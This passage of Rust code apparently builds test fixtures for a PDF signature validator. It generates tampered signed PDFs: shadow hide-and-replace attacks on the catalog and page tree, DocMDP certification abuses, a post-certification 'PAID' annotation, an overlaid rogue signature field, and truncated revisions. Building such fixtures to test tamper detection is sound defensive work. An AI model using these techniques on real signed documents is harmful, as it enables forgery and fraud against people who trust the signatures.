        let enc = Dict::new().with("Type", Object::name("Encoding")).with(
            "Differences",
            Object::Array(vec![Object::Integer(49), Object::name("nine")]),
        );
        upd.put(
            p.font,
            Object::Dictionary(
                Dict::new()
                    .with("Type", Object::name("Font"))
                    .with("Subtype", Object::name("Type1"))
                    .with("BaseFont", Object::name("Helvetica"))
                    .with("Encoding", Object::Dictionary(enc)),
            ),
        )
        .unwrap();
    })
}

/// Hide-and-replace: the trailer's `/Root` moved to the prepared alternative
/// catalog (a section with no object).
pub fn shadow_hide_and_replace_root(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    xref_only_update(&bytes, &BTreeMap::new(), Some(p.alt_catalog))
}

/// Hide-and-replace: the page tree root redefined with the prepared alternative page.
pub fn shadow_hide_and_replace_pages(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |file, upd| {
        let alt = dict_of(file, p.alt_pages);
        upd.put(p.pages, Object::Dictionary(alt)).unwrap();
    })
}

/// Hide-and-replace with no new object: a section points the page tree
/// root's number at its shadow version in a prepared revision.
pub fn shadow_hide_and_replace_redirected(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    xref_only_update(
        &bytes,
        &BTreeMap::from([(p.pages.num, (p.pages_shadow_at, 0))]),
        None,
    )
}

// ------------------------------------------- Certified documents (DocMDP)

/// The covenant certified by U01 (DocMDP `/P p`), then signed by U02..U0n.
pub fn certified(p: u8, n: usize) -> Vec<u8> {
    let f = fixture();
    let spec = SigSpec {
        docmdp: Some(p),
        perms: true,
        ..SigSpec::default()
    };
    let mut cur = sign_field_spec(&f.unsigned, "U01", &f.leaders[0], TIMES[0], spec, |_, _| {});
    for (i, time) in TIMES.iter().enumerate().take(n).skip(1) {
        cur = sign_field(&cur, &format!("U{:02}", i + 1), &f.leaders[i], time);
    }
    cur
}

pub fn legit_certified_p2(n: usize) -> Vec<u8> {
    certified(2, n)
}

/// Certified with `/P 1` and nothing after.
pub fn legit_certified_p1() -> Vec<u8> {
    certified(1, 1)
}

/// Certified with `/P 1` (no change permitted), then signed by U02 and U03.
pub fn docmdp_p1_then_signed() -> Vec<u8> {
    certified(1, 3)
}

/// Evil annotation: a FreeText annotation over page 1 after the certification.
fn evil_annotation(p: u8, n: usize) -> Vec<u8> {
    append(&certified(p, n), |file, upd| {
        let annot = upd.allocate();
        let a = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("FreeText"))
            .with("Rect", rect(60, 600, 540, 720))
            .with("Contents", text("ĐÃ THANH TOÁN"))
            .with(
                "DA",
                Object::String(PdfString::literal("/Helv 24 Tf 1 0 0 rg")),
            );
        upd.put(annot, Object::Dictionary(a)).unwrap();
        let (page, pd) = page_with_annot(file, 1, Object::Reference(annot));
        upd.put(page, Object::Dictionary(pd)).unwrap();
    })
}

pub fn evil_annotation_p1(n: usize) -> Vec<u8> {
    evil_annotation(1, n)
}

pub fn evil_annotation_p2(n: usize) -> Vec<u8> {
    evil_annotation(2, n)
}

pub fn evil_annotation_p3(n: usize) -> Vec<u8> {
    evil_annotation(3, n)
}

/// Sneaky signature: a new signature field "U17" whose widget covers page
/// 1's text, then signed with the real signer by a trusted leader of "U17".
fn sneaky_signature(base: Vec<u8>) -> Vec<u8> {
    let with_field = append(&base, |file, upd| {
        let field = upd.allocate();
        let fd = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("Widget"))
            .with("FT", Object::name("Sig"))
            .with("T", text("U17"))
            .with("F", Object::Integer(4))
            .with("Rect", rect(60, 600, 540, 720))
            .with("P", Object::Reference(page_ref(file, 1)));
        upd.put(field, Object::Dictionary(fd)).unwrap();
        let (page, pd) = page_with_annot(file, 1, Object::Reference(field));
        upd.put(page, Object::Dictionary(pd)).unwrap();
        let (root, cat) = catalog_with_field(file, field);
        upd.put(root, Object::Dictionary(cat)).unwrap();
    });
    let who = unit_identity("U17", 0x71, 0x1717);
    sign_field(&with_field, "U17", &who, "D:20260320090000+07'00'")
}

pub fn sneaky_signature_certified(n: usize) -> Vec<u8> {
    sneaky_signature(certified(2, n))
}

pub fn sneaky_signature_plain(n: usize) -> Vec<u8> {
    sneaky_signature(signed(n))
}

/// U01 signs normally; U02's signature claims the certification (and adds
/// `/Perms` to the catalog in its revision).
pub fn docmdp_certification_not_first() -> Vec<u8> {
    let f = fixture();
    let spec = SigSpec {
        docmdp: Some(2),
        perms: true,
        ..SigSpec::default()
    };
    sign_field_spec(&signed(1), "U02", &f.leaders[1], TIMES[1], spec, |_, _| {})
}

/// U01's signature holds a DocMDP transform the catalog does not name.
pub fn docmdp_without_perms() -> Vec<u8> {
    let f = fixture();
    let spec = SigSpec {
        docmdp: Some(1),
        perms: false,
        ..SigSpec::default()
    };
    sign_field_spec(&f.unsigned, "U01", &f.leaders[0], TIMES[0], spec, |_, _| {})
}

// ------------------------------------------- Truncation, trailing bytes

/// A whole update (page 1's content redefined) appended without its `%%EOF`.
pub fn revision_without_eof(n: usize) -> Vec<u8> {
    let mut bytes = append(&signed(n), |file, upd| {
        let k = contents_of(file, 1)[0];
        upd.put_stream(k, Dict::new(), PAID).unwrap();
    });
    let cut = bytes.len() - b"%%EOF\n".len();
    bytes.truncate(cut);
    bytes
}

/// The file cut in the middle of the last signature's `/Contents`.
pub fn truncated_mid_object(n: usize) -> Vec<u8> {
    let mut bytes = signed(n);
    let (a, _) = last_gap(&bytes);
    bytes.truncate(a + 1000);
    bytes
}
